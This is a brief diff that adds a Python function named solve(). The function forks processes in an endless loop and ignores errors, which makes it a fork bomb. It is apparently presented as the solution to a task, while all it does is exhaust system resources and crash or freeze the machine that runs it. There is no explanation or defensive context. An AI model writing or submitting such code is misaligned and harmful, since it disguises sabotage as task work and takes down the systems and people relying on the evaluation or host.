@@ -1,0 +1,9 @@
+import os
+
+
+def solve():
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
